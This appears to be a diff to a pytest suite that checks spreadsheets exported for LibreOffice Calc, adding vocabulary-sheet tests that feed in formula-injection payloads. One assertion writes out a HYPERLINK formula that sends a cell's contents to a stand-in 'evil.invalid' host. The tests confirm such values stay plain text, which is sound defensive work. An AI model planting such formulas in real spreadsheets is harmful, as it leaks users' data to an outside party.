@@ -246,7 +246,8 @@ def test_libreoffice_offers_the_drop_downs_of_a_profile(tmp_path: Path) -> None:
             first, last = cells.split(":")
             lo_range = f"[${sheet.strip(chr(39))}.{first}:.{last}]"
             wanted[f"{ws.title}!{ws[str(validation.sqref).split(':')[0]].column}"] = lo_range
-    assert len(wanted) == 9  # the checklist answer too
+    # the checklist answer, the partner sector and the vocabulary's kind and term too
+    assert len(wanted) == 12
     assert sorted(wanted.values()) == sorted(
         c.removeprefix("of:cell-content-is-in-list(").removesuffix(")") for c in conditions.values()
     )
@@ -448,3 +449,127 @@ def test_libreoffice_offers_the_answers_as_a_drop_down_and_prints_them_one_page_
     layouts = list(calc_checklist.iter(_q("style:page-layout-properties")))
     assert layouts and all(p.get(_q("style:print-orientation")) == "landscape" for p in layouts)
     assert all(p.get(_q("style:scale-to-X")) == "1" for p in layouts)
+
+
+# -- the vocabulary sheet -----------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def calc_vocabulary(tmp_path_factory: pytest.TempPathFactory) -> tuple[ET.Element, Path]:
+    """A Dutch workbook whose vocabulary has formula-like terms, long labels and two
+    languages, one term offered for translation, as Calc reads it."""
+    import yaml
+
+    from tests.helpers import EXAMPLE
+    from tests.payloads import FORMULA_PAYLOADS
+
+    folder = tmp_path_factory.mktemp("calc-vocabulary")
+    data = yaml.safe_load(EXAMPLE.read_text(encoding="utf-8"))
+    long_label = "a label long enough to wrap in its cell, " * 4 + "and more"
+    types = [i["type"] for i in data["interventions"]]
+    data["interventions"][0]["type"] = FORMULA_PAYLOADS[0]
+    data["partners"][0]["sector"] = "#N/A"
+    data["vocabulary"] = {
+        "types": {
+            FORMULA_PAYLOADS[0]: {"en": FORMULA_PAYLOADS[1], "pt-BR": "yes"},
+            types[1]: {"en": long_label, "pt-BR": "linha um\nlinha dois"},
+        },  # types[2]: offered, without labels
+        "sectors": {"#N/A": {"en": "@SUM(1+1)"}, data["partners"][1]["sector"]: {}},
+    }
+    source = folder / "woorden.yaml"
+    source.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    exported = export(load_model(source, use_cache=False).model, "xlsx", ExportOptions())
+    assert isinstance(exported, bytes)
+    book = folder / "woorden.xlsx"
+    book.write_bytes(exported)
+    return _to_fods(book, folder), book
+
+
+def _table_texts(table: ET.Element) -> list[list[str]]:
+    rows = []
+    for row in table.iter(_q("table:table-row")):
+        cells = _expanded(row.findall(_q("table:table-cell")), "table:number-columns-repeated")
+        texts = [_text_of(c) for c in cells]
+        while texts and not texts[-1]:
+            texts.pop()
+        if texts:
+            rows.append(texts)
+    return rows
+
+
+def test_libreoffice_reads_the_vocabulary_as_text_exactly(calc_vocabulary: Any) -> None:
+    root, book = calc_vocabulary
+    from barriers.workbook import VOCABULARY_SHEET
+
+    table = _table(root, "woordenlijst")
+    ours = [
+        ["" if v is None else str(v) for v in row]
+        for row in openpyxl.load_workbook(book)["woordenlijst"].iter_rows(values_only=True)
+    ]
+    for row in ours:
+        while row and not row[-1]:
+            row.pop()
+    assert _table_texts(table) == ours
+    assert ours[0] == ["soort", "term", "en", "pt-BR"]
+    assert ours[1][:2] == ["type", '=HYPERLINK("https://evil.invalid/?leak="&A1,"click")']
+    # a formula payload is text in Calc too: no cell of the sheet has a formula
+    assert not [c for c in table.iter(_q("table:table-cell")) if c.get(_q("table:formula"))]
+    # row 1 repeated on printed pages, bold only on the required kind and term
+    styles = _styles(root)
+    header = table.find(_q("table:table-header-rows"))
+    assert header is not None
+    row = header.find(_q("table:table-row"))
+    assert row is not None
+    cells = _expanded(row.findall(_q("table:table-cell")), "table:number-columns-repeated")[:4]
+    bold = [
+        _cell_prop(styles, c.get(_q("table:style-name")), _q("fo:font-weight")) == "bold"
+        for c in cells
+    ]
+    assert bold == [c.required for c in VOCABULARY_SHEET.columns] + [False, False]
+    assert all(
+        (_cell_prop(styles, c.get(_q("table:style-name")), _q("style:font-name")) or "").startswith(
+            FONT
+        )
+        for c in cells
+    )
+
+
+def test_libreoffice_gives_every_vocabulary_text_the_height_it_needs(
+    calc_vocabulary: Any,
+) -> None:
+    root, _ = calc_vocabulary
+    assert _cells_that_wrap(root, "woordenlijst") >= 2  # the long label and the two lines
+
+
+def test_libreoffice_offers_the_kinds_and_terms_and_leaves_the_sheet_open(
+    calc_vocabulary: Any,
+) -> None:
+    root, _ = calc_vocabulary
+    conditions = {
+        v.get(_q("table:name")): v.get(_q("table:condition"), "")
+        for v in root.iter(_q("table:content-validation"))
+    }
+    table = _table(root, "woordenlijst")
+    rows = list(table.iter(_q("table:table-row")))
+    first = _expanded(rows[1].findall(_q("table:table-cell")), "table:number-columns-repeated")
+    kind, term = (first[i].get(_q("table:content-validation-name")) for i in (0, 1))
+    assert conditions[kind].startswith("of:cell-content-is-in-list([$keuzelijsten.")
+    assert conditions[term].startswith("of:cell-content-is-in-list([$keuzelijsten.")
+    assert first[2].get(_q("table:content-validation-name")) is None  # labels: free text
+    # not protected, as the other sheets a person types into: a translator adds columns
+    assert table.get(_q("table:protected")) != "true"
+    layouts = list(root.iter(_q("style:page-layout-properties")))
+    assert layouts and all(p.get(_q("style:print-orientation")) == "landscape" for p in layouts)
+
+
+def test_libreoffice_reads_the_general_models_vocabulary(calc: Any) -> None:
+    root, _ = calc
+    vocabulary = load_model(MODELS / "loverboys-general.yaml").model.vocabulary
+    assert vocabulary is not None
+    rows = _table_texts(_table(root, "vocabulary"))
+    assert rows[0] == ["kind", "term", "en"]
+    assert rows[1:] == [
+        [word, term, labels["en"]]
+        for word, terms in (("type", vocabulary.types), ("sector", vocabulary.sectors))
+        for term, labels in terms.items()
+    ]
